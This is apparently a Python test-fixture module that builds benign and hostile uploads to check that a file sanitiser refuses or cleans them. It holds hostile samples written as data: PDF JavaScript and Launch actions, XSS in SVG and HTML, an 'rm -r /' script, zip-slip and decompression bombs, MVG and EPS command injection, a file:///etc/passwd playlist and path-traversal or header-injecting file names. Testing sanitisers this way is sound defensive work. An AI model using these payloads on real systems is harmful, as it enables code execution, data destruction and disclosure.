"""Files that people upload, harmless ones and hostile ones, all built here."""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

SECRET = b"Longbridge-Works-4711"  # Must not survive cleaning.
SCRIPT = b"<script>alert(1)</script>"


def picture(
    kind: str = "JPEG", size: tuple[int, int] = (8, 6), mode: str = "RGB", **options
) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, 1 if mode in ("1", "P") else None or 0).save(buffer, kind, **options)
    return buffer.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda document: None, **options) -> bytes:
    """Return a document of one page, modified by `change`."""
    document, buffer = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    change(document)
    document.save(buffer, **options)
    return buffer.getvalue()


def open_action(**entries) -> Callable[[pikepdf.Pdf], None]:
    """Add an action that runs when the document is opened."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(
            pikepdf.Dictionary({f"/{name}": value for name, value in entries.items()})
        )

    return change


def chunk(kind: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def png_of(width: int, height: int, content: bytes = b"") -> bytes:
    """Return a PNG file that claims a size, regardless of its content."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IDAT", zlib.compress(content, 9))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + body + chunk(b"IEND", b"")


def archive(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return buffer.getvalue()


def gps() -> Image.Exif:
    """Return metadata with the place, author and camera of a picture."""
    exif = Image.Exif()
    exif[0x010F] = SECRET.decode()  # The make of the camera.
    exif[0x9286] = SECRET.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 23.0, 30.0), 3: "W", 4: (1.0, 58.0, 30.0)})
    return exif


def attach_workbook(document: pikepdf.Pdf) -> None:
    document.attachments["payroll.xlsm"] = pikepdf.AttachedFileSpec(
        document, b"PK\x03\x04" + SECRET
    )


def annotation(**entries) -> Callable[[pikepdf.Pdf], None]:
    """Add an annotation that acts when it is clicked or shown."""

    def change(document: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(
            {"/Type": pikepdf.Name.Annot, "/Rect": [0, 0, 9, 9]}
            | {f"/{name}": value for name, value in entries.items()}
        )
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])

    return change


def script_by_name(document: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", script]))


def script_in_stream(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"app.alert(1)")
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=stream)


def launch_in_chain(document: pikepdf.Pdf) -> None:
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    document.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo, D=[0], Next=pikepdf.Array([pikepdf.Array([launch])])
    )


def hidden_launch(document: pikepdf.Pdf) -> None:
    document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    launch = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"))
    document.Root.Kept = launch


def xfa_form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(
        XFA=document.make_stream(b"<xdp>" + SCRIPT), Fields=[]
    )


def author_everywhere(document: pikepdf.Pdf) -> None:
    """Name the author in every place where a document can."""
    document.docinfo["/Author"] = SECRET.decode()
    document.docinfo["/Producer"] = SECRET.decode()
    with document.open_metadata() as metadata:
        metadata["dc:creator"] = [SECRET.decode()]
    document.pages[0].Metadata = document.make_stream(b"<x>" + SECRET + b"</x>")
    document.pages[0].PieceInfo = pikepdf.Dictionary(App=SECRET.decode())


def with_revision(build: Callable[[], bytes]) -> bytes:
    """Append a revision to a document, as an incremental save does."""
    original = build()
    before = int(re.findall(rb"startxref\s+(\d+)", original)[-1])
    [author] = re.findall(rb"(\d+) 0 obj\n<<\s+/Author", original)
    [root] = re.findall(rb"/Root (\d+) 0 R", original)
    [size] = re.findall(rb"/Size (\d+)", original)
    change = author + b" 0 obj\n<< /Title (Letter) >>\nendobj\n"
    table = b"xref\n%s 1\n%010d 00000 n \n" % (author, len(original))
    trailer = b"trailer << /Root %s 0 R /Info %s 0 R /Size %s /Prev %d >>\n" % (
        root, author, size, before
    )  # fmt: skip
    end = b"startxref\n%d\n%%%%EOF\n" % (len(original) + len(change))
    return original + change + table + trailer + end


def with_author(document: pikepdf.Pdf) -> None:
    document.docinfo["/Author"] = SECRET.decode()


def layer(document: pikepdf.Pdf) -> None:
    """Add a drawing's layer that names its author and its intended viewer."""
    group = pikepdf.Dictionary(
        Type=pikepdf.Name.OCG,
        Name="Ground floor",
        Usage=pikepdf.Dictionary(
            CreatorInfo=pikepdf.Dictionary(Creator=SECRET.decode(), Subtype=pikepdf.Name.Artwork),
            User=pikepdf.Dictionary(Type=pikepdf.Name.Ind, Name=SECRET.decode()),
        ),
    )
    groups = pikepdf.Array([document.make_indirect(group)])
    document.Root.OCProperties = pikepdf.Dictionary(OCGs=groups, D=pikepdf.Dictionary())


def signature(document: pikepdf.Pdf) -> None:
    """Add a machine-readable signature with the signer's name."""
    value = pikepdf.Dictionary(
        Type=pikepdf.Name.Sig,
        Name=SECRET.decode(),
        ByteRange=[0, 1, 2, 3],
        Contents=SECRET.decode(),
    )
    field = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Sig,
        T="Signature 1", Rect=[0, 0, 9, 9], V=document.make_indirect(value),
    )  # fmt: skip
    field = document.make_indirect(field)
    document.pages[0].Annots = pikepdf.Array([field])
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[field], SigFlags=3)
    document.Root.Perms = pikepdf.Dictionary(DocMDP=field.V)


def thread(document: pikepdf.Pdf) -> None:
    document.Root.Threads = pikepdf.Array(
        [pikepdf.Dictionary(I=pikepdf.Dictionary(Title="Update", Author=SECRET.decode()))]
    )


def thumbnail(document: pikepdf.Pdf) -> None:
    """Add a thumbnail of the page as it was before an edit."""
    document.pages[0].Thumb = document.make_stream(SECRET, Width=1, Height=1)


def document_id(document: pikepdf.Pdf) -> None:
    """Add an identifier that all copies of the document share."""
    document.trailer.ID = pikepdf.Array([pikepdf.String(SECRET.decode())] * 2)


def inline_photo(content: bytes, filters: bytes = b"/DCT") -> bytes:
    """Return page content that draws an inline photo next to text."""
    head = b"q 8 0 0 6 0 0 cm BI /W 8 /H 6 /BPC 8 /CS /RGB /F " + filters + b" ID "
    return head + content + b"\nEI Q BT (The BI of our ID card) Tj ET\n"


def page_content(*parts: bytes) -> Callable[[pikepdf.Pdf], None]:
    """Write a page in one or more parts, which readers join."""

    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].Contents = pikepdf.Array([document.make_stream(part) for part in parts])

    return change


def photo_in_form(document: pikepdf.Pdf) -> None:
    form = document.make_stream(
        inline_photo(picture(exif=gps())), Subtype=pikepdf.Name.Form, BBox=[0, 0, 9, 9]
    )
    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Fm0=form))


def photo_in_stamp(document: pikepdf.Pdf) -> None:
    stamp = document.make_stream(inline_photo(picture(exif=gps())), BBox=[0, 0, 9, 9])
    annotation(Subtype=pikepdf.Name.Stamp, AP=pikepdf.Dictionary(N=stamp))(document)


def photo_in_glyph(document: pikepdf.Pdf) -> None:
    """Draw a photo as a glyph of a font."""
    glyph = document.make_stream(b"8 0 d0 " + inline_photo(picture(exif=gps())))
    font = pikepdf.Dictionary(
        Type=pikepdf.Name.Font,
        Subtype=pikepdf.Name.Type3,
        CharProcs=pikepdf.Dictionary(a=glyph),
    )
    document.pages[0].Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F0=font))


def bomb(document: pikepdf.Pdf) -> None:
    """Add page content of 200 MB that is compressed to 200 kB."""
    document.pages[0].Contents = document.make_stream(
        zlib.compress(b" " * 200_000_000, 9), Filter=pikepdf.Name.FlateDecode
    )


HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
JS, URI = pikepdf.Name.JavaScript, pikepdf.Name.URI

# Each of these must be refused.
REFUSED: dict[str, Callable[[], bytes]] = {
    "nothing.pdf": lambda: b"",
    "text.pdf": lambda: b"just words",
    "drawing.svg": lambda: SVG,
    "drawing.png": lambda: b"\xef\xbb\xbf" + SVG,
    "drawing.svgz": lambda: zlib.compress(SVG),
    "page.html": lambda: HTML,
    "page.jpg": lambda: b"\n  " + HTML,
    "page.xhtml": lambda: b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>',
    "entities.xml": lambda: b'<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><a>&d;</a>',
    "mail.mht": lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + HTML,
    "script.js": lambda: b"alert(1)",
    "script.py": lambda: b"#!/usr/bin/env python3\nimport os",
    "script.sh": lambda: b"#!/bin/sh\nrm -r /",
    "letter.rtf": lambda: rb"{\rtf1{\object\objocx}}",
    "program.exe": lambda: b"MZ\x90\x00" + bytes(64),
    "program.elf": lambda: b"\x7fELF" + bytes(64),
    "letter.docm": lambda: archive(**{"word/vbaProject.bin": b"macro"}),
    "sheet.xlsm": lambda: archive(**{"xl/vbaProject.bin": b"macro"}),
    "sheet.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "letter.odt": lambda: archive(**{"mimetype": b"application/vnd.oasis.opendocument.text"}),
    "bomb.zip": lambda: archive(zeros=bytes(20_000_000)),
    "slip.zip": lambda: archive(**{"../../etc/passwd": b"root"}),
    "photos.rar": lambda: b"Rar!\x1a\x07\x01\x00",
    "photos.7z": lambda: b"7z\xbc\xaf\x27\x1c",
    "photos.tar.gz": lambda: b"\x1f\x8b\x08\x00" + bytes(20),
    "moving.gif": lambda: picture("GIF"),
    "gifar.jpg": lambda: picture("GIF") + archive(a=b"b"),
    "picture.bmp": lambda: picture("BMP"),
    "picture.tiff": lambda: picture("TIFF"),
    "picture.ico": lambda: picture("ICO", (16, 16)),
    "picture.webp": lambda: b"RIFF\x24\x00\x00\x00WEBPVP8 ",
    "picture.eps": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file",
    "picture.mvg": lambda: b"push graphic-context\nfill 'url(https://x.example/|ls)'",
    "playlist.m3u8": lambda: b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd",
    "cut.jpg": lambda: picture(size=(400, 400))[:300],
    "cut.png": lambda: picture("PNG", (400, 400))[:60],
    "head.jpg": lambda: b"\xff\xd8\xff\xe0",
    "head.png": lambda: b"\x89PNG\r\n\x1a\n",
    "html-after-head.png": lambda: b"\x89PNG\r\n\x1a\n" + HTML,
    "html-after-head.jpg": lambda: b"\xff\xd8\xff" + HTML,
    "flood.png": lambda: png_of(50_000, 50_000),
    "wide.png": lambda: png_of(2**31 - 1, 1),
    "flood.jpg": lambda: picture().replace(
        b"\x00\x06\x00\x08\x03", b"\xff\xff\xff\xff\x03"
    ),
    "nowhere.png": lambda: png_of(0, 0),
    "text-bomb.png": lambda: png_of(1, 1, bytes(4))[:-12]
    + chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(90_000_000), 9))
    + png_of(1, 1)[-12:],
    "too-large.pdf": lambda: pdf() + bytes(11 * 1024 * 1024),
    "head.pdf": lambda: b"%PDF-1.7\n",
    "late-head.pdf": lambda: HTML + pdf(),
    "html-after-head.pdf": lambda: b"%PDF-1.7\n" + HTML,
    "no-pages.pdf": lambda: pdf(lambda document: document.pages.__delitem__(0)),
    "locked.pdf": lambda: pdf(encryption=pikepdf.Encryption(user="a", owner="b")),
    "script.pdf": lambda: pdf(open_action(S=JS, JS="app.alert(1)")),
    "script-in-stream.pdf": lambda: pdf(script_in_stream),
    "script-by-name.pdf": lambda: pdf(script_by_name),
    "script-hex.pdf": lambda: pdf(open_action(S=JS, JS="a"), qdf=True).replace(
        b"/JavaScript", b"/J#61vaScript"
    ),
    "script-squeezed.pdf": lambda: pdf(
        script_by_name, object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "script-on-page.pdf": lambda: pdf(
        lambda document: setattr(
            document.pages[0], "AA", pikepdf.Dictionary(O=pikepdf.Dictionary(S=JS, JS="a"))
        )
    ),
    "launch.pdf": lambda: pdf(open_action(S=pikepdf.Name.Launch, F="calc.exe")),
    "launch-in-chain.pdf": lambda: pdf(launch_in_chain),
    "launch-hidden.pdf": lambda: pdf(hidden_launch),
    "submit.pdf": lambda: pdf(open_action(S=pikepdf.Name.SubmitForm, F="https://x.example")),
    "import.pdf": lambda: pdf(open_action(S=pikepdf.Name.ImportData, F="data.fdf")),
    "elsewhere.pdf": lambda: pdf(open_action(S=pikepdf.Name.GoToR, F="\\\\x.example\\a.pdf")),
    "inside.pdf": lambda: pdf(
        open_action(S=pikepdf.Name.GoToE, T=pikepdf.Dictionary(R=pikepdf.Name.C))
    ),
    "attached.pdf": lambda: pdf(attach_workbook),
    "attached-to-page.pdf": lambda: pdf(annotation(Subtype=pikepdf.Name.FileAttachment)),
    "film.pdf": lambda: pdf(annotation(Subtype=pikepdf.Name.Screen)),
    "rich.pdf": lambda: pdf(annotation(Subtype=pikepdf.Name.RichMedia)),
    "xfa.pdf": lambda: pdf(xfa_form),
    "packed-between-words.pdf": lambda: pdf(
        page_content(inline_photo(zlib.compress(picture(exif=gps())), b"[/Fl /DCT]"))
    ),
    "endless-between-words.pdf": lambda: pdf(page_content(inline_photo(picture(exif=gps())[:-2]))),
}  # fmt: skip

# Each of these hides something and is accepted without it.
CLEANED: dict[str, Callable[[], bytes]] = {
    "gps.jpg": lambda: picture(exif=gps()),
    "gps.png": lambda: picture("PNG", exif=gps()),
    "comment.jpg": lambda: picture(comment=SECRET),
    "profile.jpg": lambda: picture(icc_profile=SECRET * 10),
    "text.png": lambda: picture("PNG", pnginfo=_with_text()),
    "zip-behind.jpg": lambda: picture() + archive(a=SECRET),
    "html-behind.jpg": lambda: picture() + SCRIPT + SECRET,
    "html-inside.jpg": lambda: picture(comment=SCRIPT + SECRET),
    "zip-behind.png": lambda: picture("PNG") + archive(a=SECRET),
    "script-behind.png": lambda: picture("PNG") + b"<?php " + SECRET,
    "named.pdf": lambda: pdf(author_everywhere),
    "noted.pdf": lambda: pdf(
        annotation(
            Subtype=pikepdf.Name.Text,
            Contents="Well done",
            T=SECRET.decode(),
            M="D:20260505",
            NM=SECRET.decode(),
        )
    ),
    "revised.pdf": lambda: with_revision(lambda: pdf(with_author, qdf=True, static_id=True)),
    "layered.pdf": lambda: pdf(layer),
    "signed.pdf": lambda: pdf(signature),
    "threaded.pdf": lambda: pdf(thread),
    "shown-in-small.pdf": lambda: pdf(thumbnail),
    "numbered.pdf": lambda: pdf(document_id),
    "zip-behind.pdf": lambda: pdf() + archive(a=SECRET),
    "html-behind.pdf": lambda: pdf() + SCRIPT + SECRET,
    "gps-inside.pdf": lambda: pdf(photo(picture(exif=gps(), comment=SECRET))),
    "gps-behind.pdf": lambda: pdf(photo(picture() + picture(exif=gps()))),
    "gps-packed.pdf": lambda: pdf(photo(picture(exif=gps()), packed=True)),
    "gps-progressive.pdf": lambda: pdf(photo(picture(exif=gps(), progressive=True))),
    "gps-jpeg-2000.pdf": lambda: pdf(photo(_jpeg_2000(), kind="/JPXDecode")),
    "gps-between-words.pdf": lambda: pdf(page_content(inline_photo(picture(exif=gps())))),
    "gps-between-parts.pdf": lambda: pdf(
        page_content(*inline_photo(picture(exif=gps()), b"[/D#43T]").partition(b"/BPC"))
    ),
    "gps-in-form.pdf": lambda: pdf(photo_in_form),
    "gps-in-stamp.pdf": lambda: pdf(photo_in_stamp),
    "gps-in-letter.pdf": lambda: pdf(photo_in_glyph),
}  # fmt: skip


def photo(
    content: bytes, packed: bool = False, kind: str = "/DCTDecode"
) -> Callable[[pikepdf.Pdf], None]:
    """Put a photo on a page, byte for byte as it came from the camera."""

    def change(document: pikepdf.Pdf) -> None:
        stream = document.make_stream(b"")
        if packed:
            names = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name(kind)])
            stream.write(zlib.compress(content), filter=names)
        else:
            stream.write(content, filter=pikepdf.Name(kind))
        for name, value in {
            "/Type": pikepdf.Name.XObject,
            "/Subtype": pikepdf.Name.Image,
            "/Width": 8,
            "/Height": 6,
            "/ColorSpace": pikepdf.Name.DeviceRGB,
            "/BitsPerComponent": 8,
        }.items():
            stream[name] = value
        resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=stream))
        document.pages[0].Resources = resources

    return change


def _jpeg_2000() -> bytes:
    """Return a picture followed by the camera's notes in a separate box."""
    note = b"uuid" + bytes(16) + b"Exif" + SECRET
    return picture("JPEG2000") + struct.pack(">I", len(note) + 4) + note


def _with_text() -> PngInfo:
    info = PngInfo()
    info.add_text("Author", SECRET.decode())
    info.add_itxt("XML:com.adobe.xmp", SECRET.decode(), zip=True)
    return info


# Hostile file names.
NAMES = [
    "../../etc/passwd.pdf",
    "..\\..\\autoexec.pdf",
    "letter.pdf\x00.html",
    "letter.pdf.exe",
    "\u202efdp.exe",
    "<script>alert(1)</script>.pdf",
    '";x=".pdf',
    "CON.pdf",
    ".htaccess",
    "a" * 800 + ".pdf",
    "\r\nSet-Cookie: a=b.pdf",
    "Zoë 🙂.pdf",
]
